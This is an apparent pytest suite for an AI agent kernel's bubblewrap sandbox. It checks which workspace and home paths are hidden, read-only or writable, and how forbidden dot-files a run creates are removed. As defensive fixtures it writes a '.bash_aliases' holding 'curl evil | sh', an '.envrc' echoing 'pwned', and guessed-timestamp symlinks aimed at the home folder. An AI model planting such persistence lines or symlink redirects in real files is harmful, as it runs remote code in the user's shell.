"""The sandbox's mount plan: which mount covers each path, in bubblewrap's order."""

from __future__ import annotations

import asyncio
import os
import subprocess
import time
from pathlib import Path

import psutil
import pytest

from lily_kernel.errors import ToolError
from lily_kernel.execution.limits import Limits
from lily_kernel.execution.mounts import MountPlan, Shows, cover, plan_mounts
from lily_kernel.execution.plan import plan_process, sandbox_mounts
from lily_kernel.execution.protected import mount_points
from lily_kernel.execution.runner import run_process
from lily_kernel.execution.sandbox import sandboxed
from tests.core.test_scripts import sandbox_or_skip
from tests.support.waiting import wait_until


def _home(tmp_path: Path) -> Path:
    """A home folder with a Lily home (a user skill), dotfiles, a folder, a file, a link."""
    home = tmp_path / "users" / "alice"
    (home / ".lily" / "skills" / "pdf").mkdir(parents=True)
    (home / ".ssh").mkdir()
    (home / "work").mkdir()
    (home / "notes.txt").write_text("notes\n")
    (home / "current").symlink_to("work")
    return home


def _shows(plan: MountPlan, path: Path) -> Shows:
    return cover(plan.mounts, path).shows


def test_no_placeholder_where_the_sandbox_is_already_read_only_or_hidden(tmp_path) -> None:
    home = _home(tmp_path)
    lily = home / ".lily"
    plan = plan_mounts(home, [home / "lily.yaml", home / "skills", lily, lily / "skills",
                              lily / "persona", lily / "trust.json"], home,
                       [lily / "skills" / "pdf"])
    assert plan.placeholders == ()
    assert _shows(plan, home / "new.txt") is Shows.EMPTY  # nothing new at the top
    assert _shows(plan, lily / "persona") is Shows.EMPTY
    assert _shows(plan, home / ".ssh") is Shows.EMPTY
    assert _shows(plan, home / "work" / "x") is Shows.HOST_WRITABLE
    assert _shows(plan, home / "notes.txt") is Shows.HOST_WRITABLE
    assert _shows(plan, lily / "skills" / "pdf") is Shows.HOST_READ_ONLY
    argv = " ".join(plan.argv)
    assert f"--symlink work {home / 'current'}" in argv
    # The empty home folder is made read-only last, after the skill's mount point in it.
    assert argv.index(f"--ro-bind {lily / 'skills' / 'pdf'}") < argv.index(
        f"--remount-ro {home}")


def test_a_workspace_holding_the_home_folder_keeps_placeholders_outside_it(tmp_path) -> None:
    home = _home(tmp_path)
    workspace = home.parent
    plan = plan_mounts(workspace, [workspace / "lily.yaml", home / ".lily" / "persona"], home, [])
    assert workspace / "lily.yaml" in plan.watched  # no placeholder in the workspace (#37)
    assert not any(p.is_relative_to(home) for p in plan.placeholders)
    assert _shows(plan, workspace / "shared") is Shows.HOST_WRITABLE
    assert _shows(plan, home / ".bash_aliases") is Shows.EMPTY


def test_a_read_only_bind_over_a_folder_lays_again_what_was_inside_it(tmp_path) -> None:
    """A skills root set to the workspace that holds the home folder: the workspace is
    read-only, and the home folder's dotfiles stay out (the bind over the workspace
    would otherwise show them again)."""
    home = _home(tmp_path)
    workspace = home.parent
    plan = plan_mounts(workspace, [workspace], home, [home / ".lily" / "skills" / "pdf"])
    assert _shows(plan, workspace / "x") is Shows.HOST_READ_ONLY
    assert _shows(plan, home / ".ssh") is Shows.EMPTY
    assert _shows(plan, home / "work" / "x") is Shows.HOST_READ_ONLY
    assert _shows(plan, home / ".lily" / "skills" / "pdf") is Shows.HOST_READ_ONLY
    assert plan.placeholders == ()


def test_a_workspace_inside_a_protected_folder_is_read_only(tmp_path) -> None:
    home = _home(tmp_path)
    workspace = home / ".lily" / "skills" / "pdf"  # developing a user skill in place
    plan = plan_mounts(workspace, [home / ".lily" / "skills"], home, [])
    assert _shows(plan, workspace / "SKILL.md") is Shows.HOST_READ_ONLY


# The workspace's protected entries, by rule (execution/protected.py; #34, round four).

def _persons_workspace(tmp_path: Path, decoys: int = 0) -> Path:
    """A workspace with the person's environments (whatever their name), dot-entries and
    dotenv files, after `decoys` names that sort before all of them ("-0" < ".env")."""
    workspace = tmp_path / "workspace"
    for env in (".venv", "myenv", "app/conda"):
        (workspace / env / "bin").mkdir(parents=True)
    (workspace / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (workspace / "myenv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (workspace / "app" / "conda" / "conda-meta").mkdir()
    (workspace / "app" / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".vscode").mkdir()
    (workspace / ".pre-commit-config.yaml").write_text("repos: []\n")
    for name in (".env", ".env.local", "app/.env", "app/.envrc"):
        (workspace / name).write_text("TOKEN=hunter2\n")
    (workspace / "sub").mkdir()
    (workspace / "data.csv").write_text("a,b\n")
    for number in range(decoys):
        (workspace / f"-{number}").write_text("decoy\n")
    return workspace


def test_protected_by_rule_however_many_names_come_first(tmp_path: Path) -> None:
    """5,000 names an earlier run made, sorting first, leave every rule in force."""
    workspace = _persons_workspace(tmp_path, decoys=5_000)
    plan = plan_mounts(workspace, [], None, [])
    for kept in (".venv/bin/activate", "myenv/bin/activate", "app/conda/bin/activate",
                 "app/.git/hooks/pre-commit", ".vscode/tasks.json", ".pre-commit-config.yaml"):
        assert _shows(plan, workspace / kept) is Shows.HOST_READ_ONLY, kept
    for hidden in (".env", ".env.local", "app/.env", "app/.envrc"):
        assert _shows(plan, workspace / hidden) is Shows.EMPTY, hidden
    for written in ("data.csv", "new.txt", "sub/out.txt", "-4999"):
        assert _shows(plan, workspace / written) is Shows.HOST_WRITABLE, written
    # Watched, Lily's own missing names only (no placeholder, #37); `.lily` Lily makes.
    # Not skills/: runs may write it (what they write waits for trust), unless the
    # session names it among its protected paths (trust by the environment).
    assert plan.placeholders == ()
    assert set(plan.watched) == {workspace / n for n in (
        "lily.yaml", "persona", ".agents", ".claude", ".git")}
    assert plan.found.skills_missing


def test_a_dotenv_folder_is_hidden_whole_and_a_link_to_nothing_gets_no_placeholder(
        tmp_path: Path) -> None:
    workspace = tmp_path / "workspace"
    (workspace / ".env").mkdir(parents=True)
    (workspace / ".env" / "prod").write_text("TOKEN=hunter2\n")
    (workspace / ".#notes.txt").symlink_to("ada@host.4242:1700000000")  # an editor's lock
    plan = plan_mounts(workspace, [], None, [])
    assert _shows(plan, workspace / ".env" / "prod") is Shows.EMPTY
    assert not any(p.name.startswith("ada@") for p in plan.placeholders)


def test_what_appears_after_the_plan_is_a_change_it_no_longer_protects(tmp_path: Path) -> None:
    """The Python kernel's sandbox is planned once: what the rules would protect that
    appears later (the person's new .env, a new environment, a new dot-entry), a
    protected link pointed elsewhere, a protected entry gone, are what the plan names."""
    workspace = _persons_workspace(tmp_path)
    (workspace / "envs" / "main").mkdir(parents=True)
    (workspace / ".tools").symlink_to("envs/main")
    plan = plan_mounts(workspace, [], None, [])
    assert plan.changes() == ()
    (workspace / ".env.production").write_text("TOKEN=new\n")
    (workspace / ".vscode2").mkdir()
    (workspace / "venv2").mkdir()
    (workspace / "venv2" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (workspace / "sub" / ".env").write_text("TOKEN=new\n")
    (workspace / "report.csv").write_text("made later\n")  # not protected: no change
    (workspace / "sub" / "notes.md").write_text("made later\n")
    (workspace / ".tools").unlink()
    (workspace / ".tools").symlink_to("myenv")
    (workspace / ".pre-commit-config.yaml").unlink()
    assert sorted(plan.changes()) == [".env.production", ".pre-commit-config.yaml", ".tools",
                                      ".vscode2", "sub/.env", "venv2"]


def _start_sandbox(plan: MountPlan, workspace: Path) -> subprocess.Popen[bytes]:
    """A sandbox that stays, as the Python kernel's does (`sleep` in it), once its
    command runs (bubblewrap starts it below its first process, every mount laid)."""
    bwrap = sandbox_or_skip().bwrap
    assert bwrap is not None
    process = subprocess.Popen(sandboxed(bwrap, ["sleep", "60"], workspace, plan))
    wait_until(lambda: len(psutil.Process(process.pid).children(recursive=True)) >= 2,
               "the sandbox's command runs")
    assert mount_points(process.pid) is not None
    return process


def test_a_live_sandbox_is_a_change_once_the_host_replaced_what_a_mount_lay_on(
        tmp_path: Path) -> None:
    """A mount holds an entry, not a name: when the person saves .env by writing a new
    file over it (as editors do), or makes .venv again, or makes a lily.yaml,
    the running sandbox sees the new one as it is. The plan says so, by the mounts the
    sandbox still has (what the kernel asks before each run, and restarts for)."""
    workspace = _persons_workspace(tmp_path)
    plan = sandbox_mounts(workspace.resolve(), [workspace.resolve() / "lily.yaml"],
                          {"HOME": str(tmp_path / "home")})
    process = _start_sandbox(plan, workspace.resolve())
    try:
        assert plan.changes(process.pid) == ()
        (workspace / ".env.new").write_text("TOKEN=rotated\n")
        (workspace / ".env.new").replace(workspace / ".env")
        (workspace / ".venv").rename(workspace / "old-venv")
        (workspace / ".venv").mkdir()
        (workspace / "lily.yaml").write_text("model: local\n")  # missing: watched
        (workspace / "report.csv").write_text("no change\n")
        changed = plan.changes(process.pid)
        assert {".env", ".venv", "lily.yaml"} <= set(changed), changed
        assert "report.csv" not in changed
    finally:
        process.kill()
        process.wait()
    assert plan.changes(process.pid)  # a sandbox that no longer runs holds nothing


def test_a_run_keeps_no_new_dot_entry_at_the_top_and_its_links_as_they_were(
        tmp_path: Path) -> None:
    """What a run made at the top that the rules forbid is undone after it, following
    no link: new dot-entries go (a link as a link), a protected link it replaced comes
    back; its other outputs, the person's dot-entries and Lily's placeholders stay."""
    workspace = _persons_workspace(tmp_path)
    (workspace / "envs" / "main").mkdir(parents=True)
    (workspace / ".tools").symlink_to("envs/main")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("not the run's\n")
    plan = plan_mounts(workspace, [], None, [])
    # What a run does:
    (workspace / ".envrc").write_text("echo pwned\n")
    (workspace / ".vscode2" / "deep").mkdir(parents=True)
    (workspace / ".vscode2" / "deep" / "tasks.json").write_text("{}\n")
    (workspace / ".vscode2" / "deep").chmod(0o500)
    (workspace / ".outside").symlink_to(outside)
    (workspace / ".tools").unlink()
    (workspace / ".tools" / "bin").mkdir(parents=True)
    (workspace / "out.txt").write_text("an output\n")
    (workspace / ".git").mkdir()  # one of Lily's names, missing when planned (#37)
    assert sorted(plan.remove_made()) == [".envrc", ".git", ".outside", ".tools", ".vscode2"]
    assert os.readlink(workspace / ".tools") == "envs/main"
    assert (outside / "keep.txt").read_text() == "not the run's\n"
    # Set aside, not deleted (the person may have made one meanwhile): under .lily/.
    aside, = (workspace / ".lily" / "removed").iterdir()
    assert sorted(p.name for p in aside.iterdir()) == [".envrc", ".git", ".outside", ".tools",
                                                      ".vscode2"]
    assert (aside / ".envrc").read_text() == "echo pwned\n"
    assert (aside / ".outside").is_symlink() and (aside / ".tools" / "bin").is_dir()
    for kept in ("out.txt", ".venv", ".vscode", ".env", ".pre-commit-config.yaml"):
        assert (workspace / kept).exists(), kept
    assert plan.remove_made() == ()


def test_setting_aside_follows_no_link_a_downloaded_folder_shipped(tmp_path: Path) -> None:
    """A folder ships `.lily/removed` as a link to a folder the sandbox can write, and
    from there `<time>` links to the person's home: what a run makes at the top
    (`.bash_aliases`, which a login shell runs) must not be moved there."""
    workspace = _persons_workspace(tmp_path)
    home = tmp_path / "home"
    home.mkdir()
    (workspace / "w").mkdir()
    (workspace / ".lily").mkdir()
    (workspace / ".lily" / "removed").symlink_to("../w")
    for second in range(-2, 5):  # the next few seconds' stamps, as the attacker guesses
        stamp = time.strftime("%Y%m%dT%H%M%S", time.gmtime(time.time() + second))
        (workspace / "w" / stamp).symlink_to(home)
    plan = plan_mounts(workspace, [], None, [])
    (workspace / ".bash_aliases").write_text("curl evil | sh\n")
    assert plan.remove_made() == (".bash_aliases",)
    assert list(home.iterdir()) == []
    assert (workspace / "lily-removed.bash_aliases").read_text() == "curl evil | sh\n"
    assert not (workspace / ".bash_aliases").exists()


def test_a_run_waits_for_no_plan_the_workspace_outgrew_and_says_what_it_undid(
        tmp_path: Path) -> None:
    """A command is planned when it is asked about: a .env made while the person
    answers would not be hidden, so the run is refused; what a run leaves that the rules
    forbid is removed, and the model reads which."""
    sandbox = sandbox_or_skip()
    workspace = _persons_workspace(tmp_path).resolve()
    environ = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path)}
    command = ["/bin/sh", "-c", "echo 'echo pwned' > .envrc; echo ran"]
    plan = plan_process(command, workspace, [], environ, sandbox, limits=Limits())
    (workspace / ".env.new").write_text("TOKEN=made while asked\n")
    with pytest.raises(ToolError, match=r"nothing ran: \.env\.new changed"):
        asyncio.run(run_process(plan, 30))
    assert not (workspace / ".envrc").exists()
    plan = plan_process(command, workspace, [], environ, sandbox, limits=Limits())
    result = asyncio.run(run_process(plan, 30))
    assert "ran" in result.output.splitlines(), result.output  # (stderr may come first)
    assert "[removed after the run: .envrc " in result.output
    assert not (workspace / ".envrc").exists()
